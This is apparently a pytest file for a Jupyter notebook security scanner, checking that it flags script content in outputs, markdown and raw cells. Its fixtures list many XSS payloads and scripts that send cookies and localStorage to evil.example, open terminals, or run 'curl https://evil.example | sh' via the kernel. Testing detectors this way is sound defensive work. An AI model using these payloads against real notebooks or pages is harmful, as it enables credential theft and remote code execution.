"""Everything that browsers run is found, in whatever way it is written."""

from __future__ import annotations

import base64

import pytest

from jupyter_mlsecops.core.model import Severity

from .scanning import code, markdown, notebook, output, severity

PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()
EVERYWHERE = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR = "alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
    f'<object data="data:text/html;base64,{PAGE}"></object>',
    f"<iframe data-html={PAGE} onload=\"this.contentDocument.write(atob(this.getAttribute('data-html')))\"></iframe>",
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form action="https://evil.example/"><input type=password></form>',
    "<svg><a><set attributeName=href to='javascript:alert(1)'/></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<div style="width: expression(alert(1))">x</div>',
    '<meta http-equiv="Refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<x "><img src=x onerror=alert(1)>',
    "<!--><script>alert(1)</script>-->",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
]
DANGEROUS = [
    "new Image().src = 'https://evil.example/?' + document.cookie",
    "fetch('https://evil.example/x', {method: 'POST', body: localStorage.getItem('k')})",
    "navigator.sendBeacon('https://evil.example/', text)",
    "new WebSocket('wss://evil.example/s')",
    "window.parent.document.body.remove()",
    "Jupyter.notebook.kernel.execute('!curl https://evil.example | sh')",
    "IPython.notebook.kernel.execute(atob('aW1wb3J0IG9z'))",
    'var c = "import os; os.abort()"; Jupyter.notebook.kernel.execute(c)',
    "Jupyter.notebook.insert_cell_at_bottom('code').set_text('x'); Jupyter.notebook.execute_cell()",
    "fetch('/api/terminals', {method: 'POST'})",
    "fetch(`${base}api/contents/x`)",
    "app.commands.execute('terminal:create-new')",
    "eval(String.fromCharCode(97, 108))",
    r"window['\x65val'](text)",
    "document['coo' + 'kie']",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[a]( <JavaScript:alert(1)>)",
    "![a](javascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "<javascript:alert(1)>",
    f"[a](data:text/html;base64,{PAGE})",
    "- x\n\n    <script>alert(1)</script>",
    "`<b>` x <script>alert(1)</script> `y`",
    "```\ncode\n```\n<script>alert(1)</script>",
    "<script>fetch('https://evil.example/?' + x) // Plotly.</script>",
]
SHOWN = (Severity.MEDIUM.value, Severity.HIGH.value)


@pytest.mark.parametrize("page", EVERYWHERE)
def test_what_runs_is_found_in_outputs_and_in_markdown(page: str) -> None:
    assert severity(notebook(code(outputs=[output(page)]))) in SHOWN
    assert severity(notebook(markdown(f"text {page}"))) in SHOWN
    assert severity(notebook({"cell_type": "raw", "metadata": {}, "source": page})) in SHOWN


@pytest.mark.parametrize("script", DANGEROUS)
def test_a_script_that_reaches_out_is_grave_wherever_it_stands(script: str) -> None:
    assert severity(notebook(code(outputs=[output(f"<script>{script}</script>")]))) == "high"
    assert severity(notebook(code(outputs=[output(script, "text/javascript")])), "active-script-output") == "high"
    assert severity(notebook(markdown(f"<script>{script}</script>"))) == "high"
    source = f"from IPython.display import Javascript\nJavascript({script!r})"
    assert severity(notebook(code(source)), "javascript-in-cell") == "high"


@pytest.mark.parametrize("text", LINKS)
def test_markdown_that_runs(text: str) -> None:
    assert severity(notebook(markdown(text))) == "high"
